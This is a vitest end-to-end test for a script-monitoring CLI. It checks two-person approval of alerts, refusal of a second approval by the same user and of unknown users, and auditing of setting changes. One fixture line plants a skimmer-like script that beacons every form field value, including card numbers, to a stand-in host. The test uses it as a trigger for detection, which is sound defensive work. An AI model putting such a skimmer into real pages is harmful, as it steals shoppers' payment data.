// End to end: two-person approval from the CLI (--by must name a user, one user twice is refused), and the setting's change audited and notified.

import assert from 'node:assert/strict';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { startFixtureSite, type FixtureSite } from '../fixtures/fixture-site.js';
import { startHttpReceiver, type HttpReceiver } from '../fixtures/receivers.js';
import { parseJson, runCli, tempProject, writeConfig } from '../fixtures/cli.js';
import { PASSWORD } from '../fixtures/access.js';

describe('two-person approval (CLI)', () => {
  let site: FixtureSite;
  let hook: HttpReceiver;
  let dir: string;
  let alertId: number;
  const configWith = (approvals: string) => writeConfig(dir, [{ name: 'pay', url: site.url('merchant.test', '/pay') }],
    ['canary:', '  enabled: false', approvals, 'notify:', '  - type: webhook', `    url: ${hook.url}/hook`].join('\n'));

  beforeAll(async () => {
    site = await startFixtureSite();
    hook = await startHttpReceiver();
    site.set('merchant.test', '/pay', '<!doctype html><html><body><form><input autocomplete="cc-number"></form><script src="/app.js"></script></body></html>');
    site.set('merchant.test', '/app.js', 'window.app = 1;');
    dir = tempProject('sw-two-person-');
    configWith('approvals:\n  required: 2\n  from: medium');
    for (const name of ['alice', 'bob']) {
      const added = await runCli(['users', 'add', name, '--role', 'approver', '--password-stdin'], { cwd: dir, input: `${PASSWORD}\n` });
      assert.equal(added.code, 0, added.stderr);
    }
    assert.equal((await runCli(['scan'], { cwd: dir })).code, 0);
    assert.equal((await runCli(['approve', '--all', '--note', 'first baseline', '--by', 'alice'], { cwd: dir })).code, 0);
    // A skimmer-like change: rated high or above, so it needs two approvals.
    site.set('merchant.test', '/app.js', "window.app = 1; document.addEventListener('change', function (e) { navigator.sendBeacon('http://collect.test/c', e.target.value); });");
    const scan = parseJson<{ alerts: { id: number; type: string; severity: string }[] }>(await runCli(['scan', '--json'], { cwd: dir }));
    const changed = scan.alerts.find((a) => a.type === 'script.changed');
    assert.ok(changed && ['medium', 'high', 'critical'].includes(changed.severity), JSON.stringify(scan.alerts));
    alertId = changed.id;
  });
  afterAll(async () => {
    await hook.close();
    await site.close();
  });

  it('records the first approval as 1 of 2, refuses the same user and names that are not users, and approves with a second user', async () => {
    const noName = await runCli(['approve', String(alertId), '--note', 'ok'], { cwd: dir });
    assert.equal(noName.code, 2);
    assert.match(noName.stderr, /give --by with the name of a scriptwarden user/);
    const stranger = await runCli(['approve', String(alertId), '--by', 'mallory'], { cwd: dir });
    assert.equal(stranger.code, 2);
    assert.match(stranger.stderr, /"mallory" is not one/);

    const first = await runCli(['approve', String(alertId), '--note', 'checked the diff', '--by', 'alice'], { cwd: dir });
    assert.equal(first.code, 0, first.stderr);
    assert.match(first.stdout, /approval 1 of 2 \(alice\)/);
    const open = parseJson<{ alerts: { id: number; status: string; approvals: { by: string }[]; approvalsRequired: number }[] }>(await runCli(['alerts', '--json'], { cwd: dir }))
      .alerts.find((a) => a.id === alertId)!;
    assert.deepEqual([open.status, open.approvals.map((a) => a.by), open.approvalsRequired], ['open', ['alice'], 2]);
    assert.match((await runCli(['show', String(alertId)], { cwd: dir })).stdout, /Approvals:\s+1 of 2 \(alice at /);

    const twice = await runCli(['approve', String(alertId), '--by', 'alice'], { cwd: dir });
    assert.equal(twice.code, 2);
    assert.match(twice.stderr, /already approved by alice/);

    const second = await runCli(['approve', String(alertId), '--note', 'agreed', '--by', 'bob'], { cwd: dir });
    assert.equal(second.code, 0, second.stderr);
    assert.match(second.stdout, new RegExp(`Alert ${alertId} approved`));
    const rescan = parseJson<{ alerts: unknown[] }>(await runCli(['scan', '--json'], { cwd: dir }));
    assert.deepEqual(rescan.alerts, [], 'the approved version is in the baseline');
  });

  it('audits a change of the setting and tells the notification channels', async () => {
    configWith('approvals:\n  required: 1');
    const listed = await runCli(['approve', String(alertId), '--by', 'alice'], { cwd: dir });
    assert.match(listed.stderr, /the policy changed from 2 approvals by different people for medium alerts and above to one approval \(audited\)/);
    const audit = parseJson<{ entries: { action: string; objectId: string | null; actor: string; before: unknown; after: unknown }[] }>(await runCli(['audit', '--json', '--type', 'setting'], { cwd: dir }));
    const change = audit.entries.find((e) => e.action === 'settings.changed' && e.objectId === 'approvals' && JSON.stringify(e.after).includes('\\"required\\":1'));
    assert.ok(change, JSON.stringify(audit.entries));
    assert.match(change.actor, /^config file .*scriptwarden\.yml$/);
    const told = hook.received.map((r) => JSON.parse(r.body) as { event?: string; setting?: string; after?: string }).filter((b) => b.event === 'setting.changed').at(-1);
    assert.deepEqual([told?.setting, told?.after], ['approvals', 'one approval']);
  });
});
